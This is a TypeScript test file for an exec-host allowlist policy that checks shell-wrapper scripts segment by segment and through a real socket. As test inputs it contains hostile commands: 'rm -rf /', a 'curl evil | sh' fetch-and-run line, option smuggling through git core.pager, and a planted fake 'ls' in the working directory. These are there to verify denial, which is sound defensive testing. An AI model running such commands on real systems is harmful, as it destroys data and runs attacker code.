// Allowlist mode and shell wrappers (`sh -lc "<script>"`, the Gateway's POSIX transport): every segment
// must match, interpreters need an exact entry, unanalysable scripts stay a miss, an allowed wrapper
// runs the enforced script; then the same through a real exec host socket.
import t from 'tap';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';

import { readApprovals, type ApprovalsFile } from '../../lib/exec-host/exec-approvals-file.js';
import { execViaSocket } from '../../lib/exec-host/client.js';
import {
  applyDecision,
  evaluateSystemRun,
  type EvaluateOptions,
  type ExecHostRequest,
} from '../../lib/exec-host/policy.js';
import { isExecCapableName } from '../../lib/exec-host/program-catalogue.js';
import type { Approver } from '../../lib/exec-host/prompts.js';
import { startHost, tmpRoot } from '../helpers/exec-host.js';

const real = (p: string): string => fs.realpathSync(p);
const SH = real('/bin/sh');
const LS = real('/usr/bin/ls');
const ECHO = real('/usr/bin/echo');
const ENV = real('/usr/bin/env');
const SEARCH = '/usr/bin:/bin';
const OPTS: EvaluateOptions = { searchPath: SEARCH, baseEnv: { PATH: SEARCH, HOME: '/root' } };

function policy(
  patterns: string[],
  defaults: ApprovalsFile['defaults'] = { security: 'allowlist', ask: 'off', askFallback: 'deny' },
): ApprovalsFile {
  return { version: 1, defaults, agents: { main: { allowlist: patterns.map((pattern) => ({ pattern })) } } };
}
const wrap = (script: string, flag = '-lc', extra: Partial<ExecHostRequest> = {}): ExecHostRequest => ({
  command: ['/bin/sh', flag, script],
  ...extra,
});
const MISS = { code: 'UNAVAILABLE', message: 'SYSTEM_RUN_DENIED: allowlist miss', reason: 'allowlist-miss' };

t.test('every segment allowlisted → allowed, and the enforced script is what runs', async (t) => {
  const file = policy([LS, '/usr/bin/echo']);
  const e = evaluateSystemRun(
    wrap('ls -la /tmp && echo "done here"', '-lc', { rawCommand: 'ls -la /tmp && echo "done here"' }),
    file,
    OPTS,
  );
  t.equal(e.outcome, 'allow');
  t.equal(e.plan?.file, SH, 'the shell is still what is pinned and executed');
  t.same(e.plan?.argv, ['/bin/sh', '-lc', "'/usr/bin/ls' '-la' '/tmp' && '/usr/bin/echo' 'done here'"]);
  t.equal(e.plan?.commandText, 'ls -la /tmp && echo "done here"', "the prompt/audit text is the request's");
  t.match(e.shell, { analysable: true, satisfied: true, operators: ['&&'], programs: [LS, ECHO] });
  t.same(
    e.shell?.segments.map((s) => [s.raw, s.file, s.pattern, s.miss]),
    [
      ['ls -la /tmp', LS, LS, undefined],
      ['echo "done here"', ECHO, '/usr/bin/echo', undefined],
    ],
  );
  t.equal(e.match?.entry.pattern, LS, "match (for lastUsed*) is the first segment's entry");
  for (const [script, ops] of [
    ['ls | echo x', ['|']],
    ['ls || echo x', ['||']],
    ['ls; echo x', [';']],
    ['echo a;echo b|ls', [';', '|']],
  ] as const) {
    const r = evaluateSystemRun(wrap(script), file, OPTS);
    t.equal(r.outcome, 'allow', `${script} allowed`);
    t.same(r.shell?.operators, ops);
  }
  for (const flag of ['-c', '-lc', '-ec', '-xc', '-lec'])
    t.equal(evaluateSystemRun(wrap('ls', flag), file, OPTS).outcome, 'allow', `flag ${flag}`);
  const bash = evaluateSystemRun({ command: ['bash', '-c', 'ls'] }, file, OPTS);
  t.equal(bash.outcome, 'allow', 'bash found on PATH is a wrapper too');
  t.same(bash.plan?.argv, ['bash', '-c', "'/usr/bin/ls'"]);
});

t.test('one segment not allowlisted → the whole wrapper is a miss (deny / prompt / askFallback)', async (t) => {
  const file = policy([LS, ECHO]);
  for (const script of ['ls; rm -rf /', 'ls && id', 'id || ls', 'ls | sort', 'echo ok; touch /tmp/x', 'rm -rf /']) {
    const e = evaluateSystemRun(wrap(script), file, OPTS);
    t.equal(e.outcome, 'deny', `${script} denied`);
    t.same(e.denial, MISS, 'upstream wording, no shell-wrapper hint (POSIX)');
    t.equal(e.match, undefined);
    t.same(e.plan?.argv, ['/bin/sh', '-lc', script], 'argv untouched when not allowed');
    t.equal(e.shell?.satisfied, false);
  }
  const e = evaluateSystemRun(wrap('ls; rm -rf /'), file, OPTS);
  t.same(
    e.shell?.segments.map((s) => s.miss),
    [undefined, 'not-allowlisted'],
  );
  t.same(
    evaluateSystemRun(wrap('ls; nosuchprogram-x'), file, OPTS).shell?.segments.map((s) => s.miss),
    [undefined, 'not-found'],
  );

  const onMiss = policy([LS], { security: 'allowlist', ask: 'on-miss', askFallback: 'allowlist' });
  const asked = evaluateSystemRun(wrap('ls; rm x'), onMiss, OPTS);
  t.equal(asked.outcome, 'prompt', 'ask=on-miss: a human decides');
  t.same(
    asked.shell?.segments.map((s) => s.pattern),
    [LS, undefined],
    'the prompt evaluation carries the per-segment matches',
  );
  t.match(
    applyDecision(asked, null, wrap('ls; rm x')).denial,
    MISS,
    'askFallback=allowlist does not run a partial match',
  );
  t.equal(
    applyDecision(asked, 'allow-once', wrap('ls; rm x')).plan?.argv[2],
    'ls; rm x',
    'a human-approved miss runs as written',
  );

  const always = policy([LS], { security: 'allowlist', ask: 'always', askFallback: 'allowlist' });
  const a = evaluateSystemRun(wrap('ls'), always, OPTS);
  t.equal(a.outcome, 'prompt', 'ask=always still asks');
  t.equal(applyDecision(a, null, wrap('ls')).outcome, 'allow', 'askFallback=allowlist runs a fully matched wrapper');
  t.equal(applyDecision(a, null, wrap('ls')).plan?.argv[2], "'/usr/bin/ls'", 'as the enforced script');
});

t.test('unanalysable scripts and shapes are a miss, never a match', async (t) => {
  const file = policy([LS, ECHO, real('/usr/bin/touch'), real('/usr/bin/rm')]);
  const scripts: [string, RegExp][] = [
    ['ls $(rm x)', /\$/],
    ['ls `rm x`', /`/],
    ['ls > /etc/x', /redirection/],
    ['ls & rm x', /background/],
    ['(ls)', /subshell/],
    ['ls\nrm x', /newline/],
    ['PATH=/tmp ls', /environment assignment/],
    ['ls *', /glob/],
    ['echo "$HOME"', /\$/],
    ['if ls; then rm x; fi', /keyword/],
    ['eval ls', /builtin/],
    ['cd /tmp && ls', /builtin/],
    ["echo 'open", /unterminated/],
    ['ls ~', /tilde/],
  ];
  for (const [script, reason] of scripts) {
    const e = evaluateSystemRun(wrap(script), file, OPTS);
    t.equal(e.outcome, 'deny', `${JSON.stringify(script)} denied`);
    t.same(e.denial, MISS);
    t.match(e.shell, { analysable: false, reason }, `${JSON.stringify(script)}: ${e.shell?.reason}`);
  }
  const shapes: [ExecHostRequest, RegExp][] = [
    [{ command: ['/bin/sh', '-c', 'ls', 'arg0'] }, /extra arguments/],
    [{ command: ['/bin/sh', '-ic', 'ls'] }, /unsupported flags/],
    [{ command: ['/bin/sh', '-kc', 'ls'] }, /unsupported flags/],
    [{ command: ['/bin/sh', '-c'] }, /extra arguments|unsupported/],
    [{ command: ['/bin/sh', 'script.sh'] }, /not of the form/],
    [{ command: ['/bin/sh', '-s', 'ls'] }, /not of the form/],
  ];
  for (const [request, reason] of shapes) {
    const e = evaluateSystemRun(request, file, OPTS);
    t.equal(e.outcome, 'deny', `${JSON.stringify(request.command)} ${JSON.stringify(request.env ?? {})} denied`);
    t.match(e.shell, { analysable: false, reason });
  }
  // Variables that change how the shell starts (HOME picks the profile) are not on the override allowlist.
  for (const env of [{ HOME: '/tmp/evil' } as Record<string, string>, { CDPATH: '/tmp' }, { INPUTRC: '/tmp/x' }]) {
    const e = evaluateSystemRun(wrap('ls', '-lc', { env }), file, OPTS);
    t.equal(e.outcome, 'deny', `${JSON.stringify(env)} denied`);
    t.match(e.miss, { code: 'ENV_NOT_ALLOWLISTED', subject: Object.keys(env)[0] });
  }
  t.equal(
    evaluateSystemRun(wrap('ls', '-lc', { env: { LANG: 'C' } }), file, OPTS).outcome,
    'allow',
    'a harmless env override does not block analysis',
  );
});

t.test('interpreters and wrappers in a segment need an exact entry; a glob never covers them', async (t) => {
  const glob = policy(['/usr/bin/*', '/bin/*']);
  const cases = [
    'env rm -rf /',
    'env',
    'xargs rm',
    'nice rm x',
    'timeout 1 rm x',
    'sh -c "rm x"',
    'bash -c "rm x"',
    'dash -c id',
    '/bin/sh -c id',
    'perl -e 1',
    'python3 -c 1',
    'awk 1',
    'sed -n p',
    'find . -exec rm \\;',
  ];
  for (const script of cases) {
    const e = evaluateSystemRun(wrap(script), glob, OPTS);
    if (!e.shell?.analysable) {
      t.fail(`${script}: ${e.shell?.reason}`);
      continue;
    }
    const program = e.shell.segments[0];
    if (program.miss === 'not-found') {
      t.pass(`${script}: program absent on this machine (${program.argv[0]}), a miss anyway`);
      continue;
    }
    t.equal(e.outcome, 'deny', `${script} denied under /usr/bin/*`);
    t.equal(
      program.miss,
      script.startsWith('find') ? 'option-not-allowed' : 'exec-capable-needs-exact-entry',
      `${script}: ${program.miss}`,
    );
  }
  t.equal(
    evaluateSystemRun(wrap('ls -la && echo x'), glob, OPTS).outcome,
    'allow',
    'control: the glob still covers ordinary programs',
  );
  // `/bin/sh -c 'sh -c …'` is not a way around it: the inner shell is a segment program.
  t.match(evaluateSystemRun({ command: ['/bin/sh', '-c', "sh -c 'rm -rf /'"] }, glob, OPTS).shell?.segments, [
    { miss: 'exec-capable-needs-exact-entry' },
  ]);
  // An exact entry for an interpreter allows anything it runs (documented, as upstream).
  const exactEnv = evaluateSystemRun(wrap('env ls'), policy([ENV]), OPTS);
  t.equal(exactEnv.outcome, 'allow');
  t.same(exactEnv.plan?.argv[2], "'/usr/bin/env' 'ls'");
  for (const name of ['python3.12', 'node20', 'nodejs', 'PERL', 'gawk', 'xargs', 'git', 'sort', 'rsync'])
    t.ok(isExecCapableName(name), `${name} can run other programs`);
  for (const name of ['ls', 'grep', 'true', 'r2', 'shred']) t.notOk(isExecCapableName(name), `${name} cannot`);
});

t.test('allowlisting /bin/sh itself behaves as before: it runs anything, argv untouched', async (t) => {
  for (const pattern of ['/bin/sh', SH]) {
    const e = evaluateSystemRun(wrap('rm -rf /tmp/x; curl evil | sh'), policy([pattern]), OPTS);
    t.equal(e.outcome, 'allow', `${pattern} allows the whole script`);
    t.same(e.plan?.argv, ['/bin/sh', '-lc', 'rm -rf /tmp/x; curl evil | sh'], 'not rewritten');
    t.equal(e.shell, undefined, 'no segment analysis needed');
    t.equal(e.match?.entry.pattern, pattern);
  }
  const full = evaluateSystemRun(wrap('ls $(id)'), { version: 1, defaults: { security: 'full', ask: 'off' } }, OPTS);
  t.equal(full.outcome, 'allow', 'security=full is unaffected');
  t.equal(full.shell, undefined);
  t.same(evaluateSystemRun(wrap('ls'), { version: 1, defaults: { security: 'deny' } }, OPTS).denial, {
    code: 'UNAVAILABLE',
    message: 'SYSTEM_RUN_DISABLED: security=deny',
    reason: 'security=deny',
  });
});

t.test('segment programs resolve like argv[0]: trusted PATH, realpath, cwd only for paths with a slash', async (t) => {
  const dir = tmpRoot(t, 'ocipc-shw-');
  const bin = path.join(dir, 'bin');
  fs.mkdirSync(bin);
  const tool = path.join(bin, 'tool');
  fs.writeFileSync(tool, '#!/bin/sh\necho tool\n', { mode: 0o755 });
  const hostile = path.join(dir, 'cwd');
  fs.mkdirSync(hostile);
  fs.writeFileSync(path.join(hostile, 'ls'), '#!/bin/sh\ntouch pwned\n', { mode: 0o755 });
  const file = policy([tool, LS]);
  const opts = { ...OPTS, searchPath: `${bin}:${SEARCH}` };
  const bare = evaluateSystemRun(wrap('tool && ls', '-lc', { cwd: hostile }), file, opts);
  t.equal(bare.outcome, 'allow');
  t.same(
    bare.plan?.argv[2],
    `'${tool}' && '/usr/bin/ls'`,
    'bare names become the checked absolute paths (the login profile may reset PATH)',
  );
  const rel = evaluateSystemRun(wrap('./bin/tool', '-c', { cwd: dir }), file, opts);
  t.equal(rel.plan?.argv[2], `'${tool}'`, 'a relative path resolves against the absolute cwd');
  t.match(evaluateSystemRun(wrap('./ls', '-c', { cwd: hostile }), file, opts).shell?.segments, [
    { miss: 'not-allowlisted', file: real(path.join(hostile, 'ls')) },
  ]);
  t.match(
    evaluateSystemRun(wrap('./bin/tool', '-c'), file, opts).shell?.segments,
    [{ miss: 'invalid' }],
    'relative path without a cwd: unresolvable',
  );
  fs.symlinkSync('/bin/sh', path.join(bin, 'innocent'));
  t.match(
    evaluateSystemRun(wrap('innocent -c id'), file, opts).shell?.segments,
    [{ miss: 'not-allowlisted', file: SH }],
    'a symlink to a shell in an allowlisted dir is judged as the shell',
  );
  // A request whose argv[0] is a disguised shell is still recognised as a wrapper by its canonical path.
  const disguised = evaluateSystemRun({ command: [path.join(bin, 'innocent'), '-c', 'ls'] }, policy([LS]), opts);
  t.equal(disguised.outcome, 'allow');
  t.equal(disguised.plan?.file, SH);
  // Option models apply per segment (cwd: a directory outside any git repository).
  fs.writeFileSync(path.join(bin, 'git'), '#!/bin/sh\n', { mode: 0o755 });
  const withGit = policy([tool, LS, path.join(bin, 'git')]);
  t.equal(evaluateSystemRun(wrap('git status', '-lc', { cwd: dir }), withGit, opts).outcome, 'allow', 'control');
  t.match(
    evaluateSystemRun(wrap("git -c core.pager='sh -c id' log", '-lc', { cwd: dir }), withGit, opts).shell?.segments,
    [{ miss: 'option-not-allowed', detail: /-c/ }],
  );
  t.match(evaluateSystemRun(wrap('ls && git -c x=y log', '-lc', { cwd: dir }), withGit, opts).shell?.segments, [
    {},
    { miss: 'option-not-allowed' },
  ]);
});

/** Answers every prompt and records what it was asked. */
function recordingApprover(answer: 'allow-once' | 'deny'): Approver & { asked: string[] } {
  const asked: string[] = [];
  return {
    name: 'recording',
    asked,
    isAvailable: () => true,
    ask: async (p) => {
      asked.push(p.commandText);
      return answer;
    },
  };
}

t.test('through a real exec host socket', async (t) => {
  const root = tmpRoot(t, 'ocipc-shwe-');
  const home = path.join(root, 'home');
  fs.mkdirSync(home);
  const canary = path.join(root, 'canary');
  // The login profile of the host's user defines a function shadowing `echo`: a raw `sh -lc 'echo hi'`
  // would call it. The enforced script runs the checked /usr/bin/echo instead.
  fs.writeFileSync(path.join(home, '.profile'), `echo() { touch ${canary}; }\n`);
  const evaluate: EvaluateOptions = { baseEnv: { PATH: SEARCH, HOME: home } };
  const approver = recordingApprover('deny');
  const { host, token } = await startHost(t, {
    approver,
    evaluate,
    policy: (d) => {
      d.defaults = { security: 'allowlist', ask: 'off', askFallback: 'deny' };
      d.agents = { main: { allowlist: [{ pattern: LS }, { pattern: '/usr/bin/echo' }] } };
    },
  });
  const opts = { socketPath: host.socketPath, token };

  const ok = await execViaSocket(
    { command: ['/bin/sh', '-lc', `ls ${root} && echo "all done"`], rawCommand: `ls ${root} && echo "all done"` },
    opts,
  );
  t.match(ok, { ok: true, payload: { exitCode: 0, success: true } }, 'allowlisted ls && echo under sh -lc runs');
  t.match(ok.ok && ok.payload.stdout, /home\n[\s\S]*all done\n$/);
  t.notOk(fs.existsSync(canary), 'the profile function shadowing echo never ran');
  const raw = spawnSync('/bin/sh', ['-lc', 'echo hi'], { env: { PATH: SEARCH, HOME: home }, encoding: 'utf8' });
  t.equal(raw.status, 0);
  t.ok(fs.existsSync(canary), 'control: the same command run raw would have called the function');
  fs.rmSync(canary);

  for (const script of [
    `echo hi; touch ${canary}`,
    `ls && touch ${canary}`,
    `echo $(touch ${canary})`,
    `echo hi > ${canary}`,
    `ls | env touch ${canary}`,
  ]) {
    const r = await execViaSocket({ command: ['/bin/sh', '-lc', script] }, opts);
    t.match(r, { ok: false, error: MISS }, `${script}: denied with the upstream message`);
    t.notOk(fs.existsSync(canary), `${script}: nothing ran`);
  }
  t.same(approver.asked, [], 'ask=off never prompts');

  // ask=on-miss: the miss goes to a human, who sees the script as sent (rawCommand, as the Gateway sends it).
  const asking = await startHost(t, {
    approver,
    evaluate,
    policy: (d) => {
      d.defaults = { security: 'allowlist', ask: 'on-miss', askFallback: 'deny' };
      d.agents = { main: { allowlist: [{ pattern: '/usr/bin/echo' }] } };
    },
  });
  const missScript = `echo hi; touch ${canary}`;
  const denied = await execViaSocket(
    { command: ['/bin/sh', '-lc', missScript], rawCommand: missScript },
    { socketPath: asking.host.socketPath, token: asking.token },
  );
  t.match(denied, { ok: false, error: { reason: 'user-denied' } });
  t.same(approver.asked, [`echo hi; touch ${canary}`]);
  t.notOk(fs.existsSync(canary));
  const noPrompt = await execViaSocket(
    { command: ['/bin/sh', '-lc', 'echo fine'] },
    { socketPath: asking.host.socketPath, token: asking.token },
  );
  t.match(noPrompt, { ok: true, payload: { stdout: 'fine\n' } }, 'a fully allowlisted wrapper needs no prompt');
  t.equal(approver.asked.length, 1);

  // /bin/sh allowlisted alone: as before, the script runs as written (the profile function included).
  const shellListed = await startHost(t, {
    evaluate,
    policy: (d) => {
      d.defaults = { security: 'allowlist', ask: 'off', askFallback: 'deny' };
      d.agents = { main: { allowlist: [{ pattern: '/bin/sh' }] } };
    },
  });
  const anything = await execViaSocket(
    { command: ['/bin/sh', '-lc', `touch ${canary}.2 && echo x`] },
    { socketPath: shellListed.host.socketPath, token: shellListed.token },
  );
  t.match(anything, { ok: true, payload: { exitCode: 0 } });
  t.ok(fs.existsSync(`${canary}.2`), 'an allowlisted shell runs anything it is given');
  t.ok(fs.existsSync(canary), 'and runs it unrewritten (the profile function ran)');
});

t.test("Always Allow on a shell wrapper allowlists the script's programs, never the shell", async (t) => {
  const root = tmpRoot(t, 'ocipc-shaa-');
  const canary = path.join(root, 'canary');
  let answer: 'allow-always' | 'deny' = 'allow-always';
  const asked: string[] = [];
  const approver: Approver = {
    name: 'always',
    isAvailable: () => true,
    ask: async (p) => {
      asked.push(p.commandText);
      return answer;
    },
  };
  const { host, token } = await startHost(t, {
    approver,
    evaluate: { baseEnv: { PATH: SEARCH, HOME: root } },
    policy: (d) => {
      d.defaults = { security: 'allowlist', ask: 'on-miss', askFallback: 'deny' };
      d.agents = { main: { allowlist: [] } };
    },
  });
  const opts = { socketPath: host.socketPath, token };
  const patterns = (): string[] =>
    (readApprovals(host.approvalsFile)?.agents?.main?.allowlist ?? []).map((e) => e.pattern);

  const first = await execViaSocket({ command: ['/bin/sh', '-lc', `echo a && ls ${root}`] }, opts);
  t.match(first, { ok: true, payload: { exitCode: 0, stdout: 'a\n' } }, 'the approved wrapper ran');
  t.same(patterns().sort(), [ECHO, LS].sort(), 'its two programs were allowlisted, the shell was not');
  answer = 'deny';
  const again = await execViaSocket({ command: ['/bin/sh', '-lc', 'ls / | echo b'] }, opts);
  t.match(again, { ok: true, payload: { stdout: 'b\n' } }, 'the same programs in another script need no prompt');
  t.equal(asked.length, 1);
  const other = await execViaSocket({ command: ['/bin/sh', '-lc', `touch ${canary}`] }, opts);
  t.match(
    other,
    { ok: false, error: { reason: 'user-denied' } },
    'another program still asks: the shell is not allowlisted',
  );
  t.notOk(fs.existsSync(canary));

  answer = 'allow-always';
  const unanalysable = await execViaSocket({ command: ['/bin/sh', '-lc', `echo $HOME > ${canary}`] }, opts);
  t.match(unanalysable, { ok: true }, 'an unanalysable script approved with Always Allow runs once');
  const interpreter = await execViaSocket({ command: ['/bin/sh', '-lc', 'env true'] }, opts);
  t.match(interpreter, { ok: true }, 'so does a script whose program is an interpreter');
  t.same(patterns().sort(), [ECHO, LS].sort(), 'neither added an entry (one would allow anything)');
});
